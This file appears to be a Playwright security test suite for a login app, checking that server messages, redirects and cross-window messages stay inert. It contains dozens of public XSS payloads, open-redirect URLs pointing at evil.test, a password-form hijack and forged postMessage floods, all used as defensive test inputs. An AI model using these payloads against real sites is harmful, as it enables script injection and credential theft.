/** What a server, an edge or another window might answer or send, in the real pages: it stays text, and leads nowhere. */
import { createServer } from 'node:http';
import type { BrowserContext, Page, Route } from '@playwright/test';
import { answered, codeScreen, test as eachTest, expect, passFirstFactor, posts, refused } from './journey.ts';
import type { Product } from './product.ts';

type Alarms = {
  /** Dialogs, visits and requests to other places, and everything that a page's policy refused, since the test began. */
  readonly all: readonly string[];
};

const watchingFor = async (context: BrowserContext, origin: string, allowed?: string): Promise<Alarms> => {
  const all: string[] = [];
  await context.exposeFunction('reportViolation', (what: string) => all.push(`policy: ${what}`));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      Reflect.get(window, 'reportViolation')(`${violatedDirective} ${blockedURI}`);
    });
  });
  const isOurs = (address: string) =>
    /^(?:about:|data:|blob:)/.test(address) || [origin, allowed].includes(new URL(address).origin);
  context.on('request', (request) => {
    if (!isOurs(request.url())) all.push(`request: ${request.url()}`);
  });
  context.on('dialog', (dialog) => {
    all.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('page', (page) => {
    page.on('framenavigated', (frame) => {
      if (!isOurs(frame.url())) all.push(`visit: ${frame.url()}`);
    });
  });
  return { all };
};

const test = eachTest.extend<{ alarms: Alarms; readable: RegExp | undefined }>({
  readable: [undefined, { option: true }],
  alarms: [
    async ({ context, product, readable }, use) => {
      const alarms = await watchingFor(context, product.origin);
      await use(alarms);
      expect(alarms.all.filter((alarm) => !readable?.test(alarm))).toEqual([]);
    },
    { auto: true },
  ],
});

const login = '**/login-api/login';
const alert = (page: Page) => page.getByRole('alert');
const answering = (answer: Parameters<Route['fulfill']>[0]) => (route: Route) => route.fulfill(answer);
/** Nothing on the page that a server's text could have created. */
const expectNoMarkup = async (page: Page): Promise<void> =>
  expect(
    page.locator('main').locator('script, img, iframe, svg:not([aria-hidden]), a[href*="evil" i], a[href^="javascript" i]'),
  ).toHaveCount(0);

/** Logs in and waits for the result of the answer. */
async function tryLogin(page: Page, answer: Parameters<Route['fulfill']>[0]): Promise<void> {
  await page.unroute(login);
  await page.route(login, answering(answer));
  await page.goto('/login');
  await passFirstFactor(page, 'sms@demo.example');
}

const edgePages = {
  1006: '<html>error code: 1006 ... your IP 203.0.113.9 ... Ray ID 8a<img src=x onerror=alert(1)></html>',
  1020: '<html>error code: 1020<script>alert(1)</script></html>',
} as const;
const edgeBlock = (number: keyof typeof edgePages) => ({ status: 403, contentType: 'text/html', body: edgePages[number] });
const blocked =
  'Your IP address has been blocked. Try to switch to another Wi-Fi or data network, or contact us if the issue persists.';

test.describe('errors', () => {
  test.use({ expectedErrors: { patterns: [answered(400), answered(401), answered(403), /^CallError: problem/, refused] } });

  test("[BANNER-01] [BANNER-04] [ERR-01] [ERR-02] (UI3, UI4, RB5, RB6) at the login: addresses and markup in errors stay text, an unknown action is ignored, and the edge's pages are replaced by our text", {
    tag: '@deep',
  }, async ({ page }) => {
    const words = 'Go to [here](javascript:alert(1)) or https://evil.test or [home](https://evil.test/home) <b>now</b>';
    await tryLogin(page, { status: 401, json: { code: 'x', message: words } });
    await expect(alert(page)).toHaveText(words);
    await expect(alert(page).getByRole('link')).toHaveCount(0);
    await tryLogin(page, { status: 400, json: { code: 'x', message: 'No.', params: { action: 'contact<script>' } } });
    await expect(alert(page)).toHaveText('No.');
    await tryLogin(page, { status: 400, json: { code: 'x', message: 'No.', params: { action: 'contact' } } });
    await expect(alert(page).getByRole('link', { name: 'Get help' })).toHaveAttribute(
      'href',
      '/help/contact/channels?issue=general-logged-out-login&topic=general-logged-out',
    );
    await tryLogin(page, edgeBlock(1006));
    await expect(alert(page)).toContainText(blocked);
    await expect(alert(page)).toContainText('1006 · 203.0.113.9 · 8a');
    await tryLogin(page, edgeBlock(1020));
    await expect(alert(page)).toContainText('Something went wrong. Try to switch to another Wi-Fi or data network');
    await expect(alert(page)).toContainText('1020');
    await expectNoMarkup(page);
    for (const answer of [{ status: 204 }, { status: 200, body: '{"data":{' }, { status: 200, json: { data: [] } }]) {
      await tryLogin(page, answer);
      await expect(alert(page)).toContainText('Something went wrong, please try again.');
      await expect(alert(page).locator('code')).toHaveText(/^[\da-f]{8}$/);
    }
  });

  test("[ERR-01] (RB6, UI3, SX3) in a challenge: the edge's pages are reported where they occur, a challenge's texts stay text, and a script is no redirect target", {
    tag: '@deep',
  }, async ({ page, product }) => {
    const status = '**/one-time-token/status*';
    const attributes = { header: '<img src=x onerror=alert(1)>', message: '<script>alert(1)</script>' };
    await page.route(status, async (route) => {
      const answer = await route.fetch();
      const asked = await answer.json();
      Object.assign(asked.oneTimeTokenProperties.challenges[0].primaryChallenge.viewData.attributes, attributes);
      await route.fulfill({ response: answer, json: asked });
    });
    await page.route('**/sms/trigger', answering(edgeBlock(1006)));
    await page.goto('/login');
    await passFirstFactor(page, 'sms@demo.example');
    await expect(page.getByRole('heading', { name: attributes.header })).toBeVisible();
    await expect(page.getByText(attributes.message)).toBeVisible();
    await expect(alert(page)).toContainText(blocked);
    await page.unroute('**/sms/trigger');
    await page.unroute(status);
    await page.route(status, answering(edgeBlock(1020)));
    await page.reload();
    await expect(page.getByText('Something went wrong. Try to switch to another Wi-Fi or data network')).toBeVisible();
    await page.unroute(status);
    await page.getByRole('button', { name: 'Try again' }).click();
    await passFirstFactor(page, 'sms@demo.example');
    await codeScreen(page);
    await page.route('**/sms/verify', answering(edgeBlock(1006)));
    await page.getByLabel('6-digit code').fill('123456');
    await expect(page.getByText(blocked)).toBeVisible();
    await expectNoMarkup(page);
    await page.unroute('**/sms/verify');
    await page.route('**/v2/auth', answering({ json: { location: 'javascript:alert(1)' } }));
    await page.getByLabel('6-digit code').fill('111111');
    await page.waitForURL(/\/(?:home|login\?redirectUrl=%2Fhome)$/);
    expect(page.url().startsWith(product.origin)).toBe(true);
  });

  test("[CALL-04] [COUNTRY-01] (SO3, UI3) an address that is not the chosen provider's is not visited, and a country's name stays text", {
    tag: '@deep',
  }, async ({ page, product }) => {
    for (const redirectUrl of [
      'https://evil.test/oauth',
      'javascript:alert(1)',
      'https://accounts.google.com@evil.test/',
      '//evil.test',
    ]) {
      await page.unroute('**/gateway/v1/socials');
      await page.route('**/gateway/v1/socials', answering({ json: { redirectUrl } }));
      await page.goto('/login');
      await page.getByRole('button', { name: 'Google' }).click();
      await expect(alert(page)).toContainText('Something went wrong, please try again.');
      expect(page.url()).toBe(`${product.origin}/login`);
    }
    const countries = [
      { iso2Code: '<b>', name: 'Nowhere' },
      { iso2Code: 'GB', name: '<img src=x onerror=alert(1)>' },
    ];
    const registration = {
      step: 'profile',
      email: '<i>ada</i>@demo.example',
      accountType: 'personal',
      country: null,
      businessName: null,
    };
    await page.route('**/registrations/*', answering({ json: registration }));
    await page.route('**/user/countries*', answering({ json: { countries } }));
    await page.goto('/register/an-id');
    await expect(page.getByRole('combobox')).toHaveValue('<img src=x onerror=alert(1)>');
    await page.getByRole('button', { name: 'Show all countries' }).click();
    await expect(page.getByRole('option')).toHaveText(['<img src=x onerror=alert(1)>']);
    await expectNoMarkup(page);
  });
});

const run = 'alert(document.domain)';
const evil = 'https://evil.test';

/** Public payloads (OWASP, PortSwigger, html5sec, DOMPurify's own) that don't affect the markup after them. */
const payloads = [
  `<script>${run}</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT/XSS SRC="${evil}/x.js"></SCRIPT>`,
  `<img src=x onerror=${run}>`,
  `<img src="${evil}/pixel.gif">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src=x:${run} onerror=eval(src)>`,
  `<img srcset="${evil}/a 1x, ${evil}/b 2x">`,
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>XSS</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">click</maction></math>`,
  `<math href="javascript:${run}">click</math>`,
  `<a href="javascript:${run}">click</a>`,
  `<a href="JaVaScRiPt:${run}">click</a>`,
  `<a href="java&Tab;script:${run}">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;script:${run}">click</a>`,
  `<a href=" &#14; javascript:${run}">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="${evil}/phish" target="_self" ping="${evil}/ping">click</a>`,
  `<a href="//evil.test">click</a>`,
  `<a href="https://localhost@evil.test/">click</a>`,
  `<body onload=${run}>`,
  `<div onmouseover=${run} style="position:fixed;inset:0;background:url(${evil}/z)">over</div>`,
  `<p style="animation-name:x" onanimationstart=${run}>p</p>`,
  `<b onclick=${run} id="root" class="x" name="cookie">b</b>`,
  `<input onfocus=${run} autofocus>`,
  `<select onfocus=${run} autofocus></select>`,
  `<details open ontoggle=${run}><summary>s</summary></details>`,
  `<video><source onerror=${run}></video>`,
  `<video poster="${evil}/p.png" src="${evil}/v.mp4"></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<marquee onstart=${run}>m</marquee>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${evil}/x.swf">`,
  `<form action="javascript:${run}"><button>send</button></form>`,
  `<form id="login" action="${evil}"><input name="password" type="password"></form>`,
  `<button formaction="javascript:${run}">send</button>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<link rel="stylesheet" href="${evil}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<style>@import "${evil}/x.css";</style>`,
  `<table background="${evil}/t.png"><td>t</td></table>`,
  `<template><img src=x onerror=${run}></template>`,
  `<x onclick=${run} tabindex=1>custom</x>`,
  `<img name="getElementById"><form name="body"></form>`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
];
/** Payloads that swallow the following markup, or depend on how it is parsed: each tested separately. */
const swallowing = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<plaintext><img src=x onerror=${run}>`,
];

/**
 * Chromium checks even inert markup against the policy of the page that parses it, in every parser, its own sanitiser included:
 * it reports a refusal for code that would never have run.
 */
const onlyRead = [
  /^Executing inline event handler violates/,
  /^Applying inline style violates/,
  /^Setting the document's base URI .* violates/,
];

test.describe('the message of a deactivated account', () => {
  test.slow();
  test.use({
    expectedErrors: { patterns: [answered(403), ...onlyRead] },
    readable: /^policy: (?:(?:script|style)-src-attr|style-src-elem|base-uri) /,
  });

  test('[DEACT-01] (UI2) is shown without its markup: no payload runs, sends a request or leads anywhere', {
    tag: '@deep',
  }, async ({ page, product }) => {
    const messages = [
      `<p>First <b>kept</b></p>${payloads.join('\n')}<p>Last <em>kept</em></p>`,
      ...swallowing.map((one) => `<b>kept</b>${one}`),
    ];
    for (const message of messages) {
      await tryLogin(page, {
        status: 403,
        json: { code: 'user_deactivated', message, params: { messageTitle: '<img src=x onerror=alert(1)>', canAppeal: true } },
      });
      await expect(page.getByRole('heading', { name: '<img src=x onerror=alert(1)>' })).toBeFocused();
      const shown = page
        .getByRole('main')
        .locator('div')
        .filter({ has: page.locator('b', { hasText: /^kept$/ }) })
        .last();
      const left = await shown.evaluate((root) =>
        [...root.querySelectorAll('*')].map(
          (each) => each.localName + [...each.attributes].map(({ name }) => ` ${name}`).join(''),
        ),
      );
      expect(
        left.filter((each) => !/^(?:p|br|b|strong|em|ul|ol|li)$/.test(each)),
        message.slice(0, 80),
      ).toEqual([]);
      await expectNoMarkup(page);
    }
    expect(page.url()).toBe(`${product.origin}/login`);
  });
});

/** Messages that a captcha, a provider or a browser extension might send, and invalid ones. */
const forged = [
  { source: 'cloudflare-challenge', event: 'complete', token: 'forged', widgetId: 'a-widget' },
  { type: 'login', oneTimeToken: 'forged', location: 'https://evil.test/' },
  { type: 'social', redirectUrl: 'https://evil.test/' },
  '{"event":"complete","token":"forged"}',
  'javascript:alert(1)',
  null,
];
const many = 2_000;

/** A page of another site that opens ours and sends it messages. */
async function startOtherSite(product: Product): Promise<{ readonly address: string; end(): void }> {
  const body = `<!doctype html><title>Elsewhere</title><button>Open</button><script>
    document.querySelector('button').onclick = () => {
      const opened = window.open('${product.origin}/login');
      const timer = setInterval(() => ${JSON.stringify(forged)}.forEach((message) => opened.postMessage(message, '*')), 5);
      setTimeout(() => { clearInterval(timer); document.title = opened.closed ? 'Cut off' : 'Still there'; }, 2000);
    };
  </script>`;
  const server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(body));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { address: `http://127.0.0.1:${address.port}`, end: () => void server.close() };
}

/** Messages that this page receives as if they came from elsewhere. */
const spoof = (page: Page): Promise<void> =>
  page.evaluate(
    ({ messages, times }) => {
      const origins = ['https://challenges.cloudflare.com', 'https://www.google.com', 'null', location.origin];
      for (let at = 0; at < times; at += 1) {
        const data = messages[at % messages.length];
        dispatchEvent(new MessageEvent('message', { data, origin: origins[at % origins.length] ?? '' }));
        window.postMessage(data, '*');
      }
    },
    { messages: forged, times: many },
  );

eachTest(
  '(UI5) messages from another site that opened the login, and forged ones, have no effect',
  async ({ page, context, product, watched }) => {
    const other = await startOtherSite(product);
    const alarms = await watchingFor(context, product.origin, other.address);
    await page.goto(other.address);
    const [opened] = await Promise.all([context.waitForEvent('page'), page.getByRole('button', { name: 'Open' }).click()]);
    await opened.getByLabel('Email').fill('sms@demo.example');
    await spoof(opened);
    await expect(page).toHaveTitle('Cut off');
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    await expect(opened.getByLabel('Email')).toHaveValue('sms@demo.example');
    expect(posts(watched.requests)).toEqual([]);
    await passFirstFactor(opened, 'sms@demo.example');
    await codeScreen(opened);
    await spoof(opened);
    await codeScreen(opened);
    expect(alarms.all).toEqual([]);
    other.end();
  },
);

const withCaptcha = eachTest.extend({
  settings: {
    STEPGATE_CAPTCHA: 'turnstile',
    STEPGATE_CAPTCHA_SITE_KEY: 'a-site-key',
    STEPGATE_CAPTCHA_SECRET: 'a-secret',
    STEPGATE_CAPTCHA_VERIFIER: 'http://127.0.0.1:9/siteverify',
  },
});

withCaptcha(
  '(UI5, UI7) a message in the name of a captcha’s frame is no answer of the captcha',
  async ({ page, context, product, watched }) => {
    const vendor = 'https://challenges.cloudflare.com';
    const alarms = await watchingFor(context, product.origin, vendor);
    // The stand-in never calls back; its frame tries messages instead.
    const script = `window.turnstile = {
    render(container) {
      const frame = document.createElement('iframe');
      frame.title = 'A captcha';
      frame.src = '${vendor}/frame';
      container.append(frame);
      return 'a-widget';
    },
    execute() {}, reset() {}, remove() {},
  };`;
    const frame = `<!doctype html><title>Forged</title><script>
    for (let at = 0; at < ${many}; at += 1) parent.postMessage(${JSON.stringify(forged)}[at % ${forged.length}], '*');
    document.title = 'sent';
  </script>`;
    await context.route(`${vendor}/**`, (route) =>
      route.request().url().endsWith('/frame')
        ? route.fulfill({ contentType: 'text/html', body: frame })
        : route.fulfill({ contentType: 'text/javascript', body: script }),
    );
    await page.goto('/login');
    await expect(page.locator('iframe')).toBeAttached();
    await passFirstFactor(page, 'sms@demo.example');
    await expect(page.getByRole('button', { name: 'Log in', exact: true })).toHaveAttribute('aria-busy', 'true');
    await spoof(page);
    await expect.poll(() => page.frames().at(-1)?.title()).toBe('sent');
    await expect(page.getByRole('button', { name: 'Log in', exact: true })).toHaveAttribute('aria-busy', 'true');
    expect(posts(watched.requests)).toEqual([]);
    expect(alarms.all).toEqual([]);
  },
);
